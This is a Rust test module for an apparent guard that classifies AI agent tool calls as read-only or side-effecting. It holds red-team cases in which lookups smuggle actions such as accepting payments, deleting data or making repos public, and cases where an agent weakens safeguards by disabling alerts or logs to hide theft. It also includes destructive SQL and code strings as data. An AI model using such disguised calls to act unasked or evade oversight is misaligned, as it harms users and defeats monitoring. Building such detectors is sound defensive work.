    /// A fifth outsider round ran lookups whose arguments act: a verb under a key that says
    /// what happens, an action key turned on, a safe mode turned off, a thing opened to all.
    /// A nineteenth outsider round answered requests through tools named for looking: a reply
    /// under a key that answers, consent set on. A reply left open, a past state to filter
    /// by, and a key that only names what is answered do not act.
    #[test]
    fn an_answer_in_a_lookups_arguments_acts() {
        use super::{call_effect, changes_by_arguments};
        use crate::classify::Effect;
        for args in [
            json!({"request_id": "PR-77", "response": "accept"}),
            json!({"invite_id": "MI-55", "reply": "accept"}),
            json!({"request_id": "PR-77", "response": "pay"}),
            json!({"request_id": "SR-41", "decision": "grant"}),
            json!({"attempt_id": "LG-5", "answer": "authorize"}),
            json!({"request_id": "FR-66", "rsvp": "yes"}),
            json!({"request_id": "FR-66", "rsvp": "no"}),
            json!({"vendor": "QuickLoans", "agree": true}),
            json!({"vendor": "QuickLoans", "accept_terms": "yes"}),
            json!({"vendor": "QuickLoans", "opt_in": true}),
        ] {
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::SideEffecting,
                "{args}"
            );
            assert!(changes_by_arguments("lookup", &args), "{args}");
        }
        for args in [
            json!({"invite_id": "MI-55", "reply": "none"}),
            json!({"status": "pending", "response": "declined"}),
            json!({"vendor": "QuickLoans", "agree": false}),
            // A search's filter names no record.
            json!({"query": "this week", "rsvp": "yes"}),
            json!({"answer_id": "A-4"}),
        ] {
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::ReadOnly,
                "{args}"
            );
        }
    }

    /// A twentieth outsider round decided on one record through a lookup under keys and
    /// values no list of reply keys held; a lookup of many records filters by a state, and one
    /// that shapes what it returns decides nothing.
    #[test]
    fn a_decision_on_the_one_record_a_lookup_names_acts() {
        use super::call_effect;
        use crate::classify::Effect;
        for (tool, args) in [
            (
                "get_payment_request",
                json!({"request_id": "PR-77", "decision": "approved"}),
            ),
            (
                "get_meeting_invite",
                json!({"invite_id": "MI-55", "status": "accepted"}),
            ),
            (
                "get_event_invite",
                json!({"invite_id": "EV-4", "attending": true}),
            ),
            (
                "get_board_motion",
                json!({"motion_id": "M-2", "vote": "yes"}),
            ),
            (
                "view_contract",
                json!({"contract_id": "C-9", "signature": "Jane Doe"}),
            ),
            ("view_offer", json!({"offer_id": "O-1", "type": "accept"})),
            (
                "review_pull_request",
                json!({"number": 97, "event": "APPROVE"}),
            ),
            (
                "get_marketing_consent",
                json!({"customer_id": "7", "opt_in": true}),
            ),
            (
                "view_offer",
                json!({"offer_id": "OF-3", "reply": {"type": "accept"}}),
            ),
        ] {
            assert_eq!(
                call_effect(tool, Effect::ReadOnly, &args),
                Effect::SideEffecting,
                "{tool} {args}"
            );
        }
        for (tool, args) in [
            (
                "list_candidates",
                json!({"job_id": "J-7", "stage": "rejected"}),
            ),
            (
                "list_assignments",
                json!({"student_id": "4", "status": "overdue"}),
            ),
            (
                "get_email",
                json!({"email_id": "12", "include_body": "yes"}),
            ),
            (
                "get_email",
                json!({"email_id": "12", "include_attachments": true}),
            ),
            (
                "get_pull_request",
                json!({"number": 97, "repo": "acme/web"}),
            ),
            (
                "search_events",
                json!({"query": "this week", "rsvp": "yes"}),
            ),
        ] {
            assert_eq!(
                call_effect(tool, Effect::ReadOnly, &args),
                Effect::ReadOnly,
                "{tool} {args}"
            );
        }
    }

    #[test]
    fn what_a_lookups_arguments_do_is_read() {
        use super::super::authority::ActionKind::*;
        use super::{argument_kinds, call_effect, changes_by_arguments};
        use crate::classify::Effect;
        for (args, kinds) in [
            (json!({"email_id": "12", "on_read": "delete"}), vec![Delete]),
            (json!({"query": "payroll", "then": "trash"}), vec![Delete]),
            (
                json!({"repo": "acme/web", "intent": "destroy"}),
                vec![Delete],
            ),
            (json!({"email_id": "12", "expunge": true}), vec![Delete]),
            (json!({"repo": "acme/web", "private": false}), vec![Share]),
            (
                json!({"repo": "acme/web", "visibility": "public"}),
                vec![Share],
            ),
            (
                json!({"name": "0042_add_index", "dry_run": false}),
                vec![Run],
            ),
        ] {
            assert_eq!(argument_kinds("lookup", &args), kinds, "{args}");
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::SideEffecting,
                "{args}"
            );
            assert!(changes_by_arguments("lookup", &args), "{args}");
        }
        assert_eq!(
            argument_kinds(
                "get_transfer_quote",
                &json!({"amount": 5, "quote_only": false})
            ),
            vec![Pay]
        );
        // A sixth round's spellings: other values for off and on, other keys, nesting.
        for args in [
            json!({"email_id": "12", "on_read": "move to trash"}),
            json!({"email_id": "12", "on_read": "deleted"}),
            json!({"email_id": "12", "cleanup": "delete"}),
            json!({"email_id": "12", "move_to": "Trash"}),
            json!({"email_id": "12", "hooks": [{"run": "delete"}]}),
            json!({"email_id": "12", "keep": false}),
            json!({"queue": "alerts", "mode": "consume"}),
            json!({"queue": "alerts", "auto_ack": "yes"}),
            json!({"queue": "alerts", "peek": "disabled"}),
            json!({"queue": "alerts", "options": {"peek": false}}),
            json!({"name": "x", "whatIf": false}),
            json!({"name": "x", "no_op": false}),
            json!({"name": "x", "skip_dry_run": true}),
            json!({"name": "x", "commit": true}),
            json!({"name": "x", "mode": "live"}),
            json!({"repo": "r", "private": "false"}),
            json!({"repo": "r", "private": 0}),
            json!({"repo": "r", "settings": {"private": false}}),
            json!({"repo": "r", "require_login": false}),
            json!({"repo": "r", "privacy": "off"}),
            json!({"repo": "r", "visibility": "everybody"}),
            json!({"repo": "r", "visibility": "unrestricted"}),
        ] {
            assert!(!argument_kinds("lookup", &args).is_empty(), "{args}");
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::SideEffecting,
                "{args}"
            );
        }
        // Nouns and states under keys that name things, and text, stay lookups.
        for args in [
            json!({"repo": "acme/web", "state": "closed"}),
            json!({"folder": "Trash"}),
            json!({"destination_folder": "Archive"}),
            json!({"query": "delete"}),
            json!({"name": "x", "dry_run": true}),
            json!({"repo": "acme/web", "private": true}),
            json!({"service": "api", "env": "prod"}),
            json!({"email_id": "12", "keep": true}),
        ] {
            assert!(argument_kinds("lookup", &args).is_empty(), "{args}");
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::ReadOnly,
                "{args}"
            );
        }
    }

    /// A third outsider round: the steps that hide a theft turn a safeguard off.
    #[test]
    fn turning_a_safeguard_off_is_told_apart() {
        use super::weakens_a_safeguard as weakens;
        assert!(weakens(
            "update_notification_settings",
            &json!({"security_alerts": false})
        ));
        assert!(weakens("set_log_retention", &json!({"days": 0})));
        assert!(weakens("snooze_alerts", &json!({"hours": 72})));
        assert!(weakens(
            "update_branch_rules",
            &json!({"branch": "main", "required_reviews": 0})
        ));
        assert!(!weakens(
            "update_notification_settings",
            &json!({"security_alerts": true})
        ));
        assert!(!weakens("set_log_retention", &json!({"days": 30})));
        assert!(!weakens("set_thermostat", &json!({"degrees": 0})));
        assert!(!weakens("update_profile", &json!({"newsletter": false})));
    }

    /// What changes something is what makes a call act, less reaching the network: a fetch
    /// carries data out but changes nothing.
    #[test]
    fn a_change_is_an_action_less_the_network() {
        use super::{Effect, call_effect, changes_by_arguments};
        for args in [
            json!({"folder": "inbox", "mark_all_read": true}),
            json!({"sql": "DELETE FROM users"}),
            json!({"expression": "__import__('os')"}),
        ] {
            assert!(changes_by_arguments("lookup", &args), "{args}");
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::SideEffecting
            );
        }
        let fetch = json!({"url": "https://status.example.com/x"});
        assert!(!changes_by_arguments("lookup", &fetch));
        assert_eq!(
            call_effect("lookup", Effect::ReadOnly, &fetch),
            Effect::SideEffecting
        );
    }

    /// An HTTP method or an action value names its kind.
    #[test]
    fn an_argument_names_the_kind_of_its_call() {
        use super::argument_kinds;
        use crate::authority::ActionKind;
        let kinds = |args: serde_json::Value| argument_kinds("http_request", &args);
        assert!(
            kinds(json!({"url": "https://x.io/ping", "method": "DELETE"}))
                .contains(&ActionKind::Delete)
        );
        assert!(kinds(json!({"url": "https://x.io/ping", "method": "GET"})).is_empty());
        assert!(kinds(json!({"note": "delete"})).is_empty());
        assert_eq!(
            argument_kinds(
                "update_notification_settings",
                &json!({"security_alerts": false})
            ),
            vec![ActionKind::Access]
        );
    }

    /// A pattern that does not compile makes every call side-effecting (closed, but useless):
    /// each must compile.
    #[test]
    fn the_patterns_compile() {
        assert!(super::SQL_WRITE.is_some());
        assert!(super::CODE_THAT_ACTS.is_some());
    }
}
